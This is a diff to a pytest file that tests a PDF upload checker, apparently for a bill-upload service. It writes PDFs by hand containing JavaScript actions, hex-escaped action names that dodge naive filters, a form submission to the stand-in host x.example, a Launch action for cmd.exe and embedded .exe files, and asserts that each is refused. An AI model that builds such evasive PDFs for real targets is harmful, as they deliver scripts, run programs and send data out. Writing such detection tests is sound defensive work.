@@ -101,17 +101,20 @@ def _pdf_with(action):
 
 
 @pytest.mark.parametrize(
-    "action",
+    ("action", "message"),
     [
-        lambda w: w.add_open_action(
-            __import__("pypdf.actions", fromlist=["JavaScript"]).JavaScript("app.alert(1);")
+        (
+            lambda w: w.add_open_action(
+                __import__("pypdf.actions", fromlist=["JavaScript"]).JavaScript("app.alert(1);")
+            ),
+            "carries JavaScript",
         ),
-        lambda w: w.add_attachment("invoice.exe", b"MZ payload"),
+        (lambda w: w.add_attachment("invoice.exe", b"MZ payload"), "carries attached files"),
     ],
     ids=["javascript", "attachment"],
 )
-def test_a_pdf_with_scripts_or_attachments_is_refused(action):
-    with pytest.raises(InvalidInput, match="scripts"):
+def test_a_pdf_with_scripts_or_attachments_is_refused(action, message):
+    with pytest.raises(InvalidInput, match=message):
         check_upload(upload(_pdf_with(action), "bill.pdf"))
 
 
@@ -145,3 +148,113 @@ def test_a_100_mb_file_is_refused_without_reading_it_all():
 )
 def test_file_names_lose_their_paths(raw, safe):
     assert safe_name(raw) == safe
+
+
+def handmade_pdf(catalog_extra=b"", page_extra=b"", extra_objects=()):
+    """A one-page PDF written by hand, so its names can be spelled as an attacker spells
+    them (pypdf's writer would normalise them)."""
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page_extra + b">>",
+        *extra_objects,
+    ]
+    out = io.BytesIO()
+    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(out.tell())
+        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
+    xref = out.tell()
+    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
+    for offset in offsets:
+        out.write(b"%010d 00000 n \n" % offset)
+    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
+    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
+    return out.getvalue()
+
+
+def test_a_handmade_plain_pdf_passes():
+    assert check_upload(upload(handmade_pdf(), "bill.pdf")).pages == 1
+    # Opening on the first page is an action that runs nothing: it passes.
+    assert check_upload(upload(handmade_pdf(b"/OpenAction [3 0 R /Fit] "), "bill.pdf")).pages == 1
+
+
+@pytest.mark.parametrize(
+    ("kwargs", "message"),
+    [
+        # The action names hex-escaped: /J#61vaScript is /JavaScript, /J#53 is /JS.
+        (
+            {
+                "catalog_extra": b"/OpenAction 4 0 R ",
+                "extra_objects": [b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) >>"],
+            },
+            "JavaScript",
+        ),
+        (
+            {
+                "catalog_extra": b"/Op#65nAction << /S /#4A#61#76#61Script /JS 4 0 R >> ",
+                "extra_objects": [b"(app.alert(1))"],
+            },
+            "JavaScript",
+        ),
+        # A link annotation whose action is a script, reached only through the page.
+        (
+            {
+                "page_extra": b"/Annots [4 0 R] ",
+                "extra_objects": [
+                    b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] "
+                    b"/A << /S /JavaScr#69pt /JS (this.submitForm('https://x.example')) >> >>"
+                ],
+            },
+            "JavaScript",
+        ),
+        # Page-open additional action launching a program.
+        ({"page_extra": b"/AA << /O << /S /L#61unch /F (cmd.exe) >> >> "}, "launches a program"),
+        (
+            {"catalog_extra": b"/OpenAction << /S /SubmitF#6frm /F (https://x.example) >> "},
+            "sends data out",
+        ),
+        # An attached file, named with escapes, and an object the catalogue does not reach.
+        (
+            {
+                "catalog_extra": b"/Names << /Embedd#65dFiles 4 0 R >> ",
+                "extra_objects": [
+                    b"<< /Names [(a.exe) << /Type /Filespec /EF << /F 5 0 R >> >>] >>",
+                    b"<< /Length 2 >>\nstream\nMZ\nendstream",
+                ],
+            },
+            "attached files",
+        ),
+        (
+            {"extra_objects": [b"<< /Type /Filespec /F (a.exe) /#45F << /F 3 0 R >> >>"]},
+            "attached files",
+        ),
+        (
+            {"page_extra": b"/Annots [<< /Subtype /FileAtt#61chment /Rect [0 0 1 1] >>] "},
+            "attached files",
+        ),
+        (
+            {
+                "catalog_extra": b"/AcroF#6Frm << /Fields [] /XFA 4 0 R >> ",
+                "extra_objects": [b"(<xdp/>)"],
+            },
+            "form",
+        ),
+    ],
+    ids=[
+        "openaction-escaped",
+        "inline-escaped",
+        "link-annotation",
+        "page-aa-launch",
+        "submitform",
+        "embedded-files",
+        "orphan-filespec",
+        "file-annotation",
+        "acroform-xfa",
+    ],
+)
+def test_active_content_is_refused_however_its_names_are_spelled(kwargs, message):
+    with pytest.raises(InvalidInput, match=message) as refused:
+        check_upload(upload(handmade_pdf(**kwargs), "bill.pdf"))
+    assert "is not accepted" in str(refused.value)
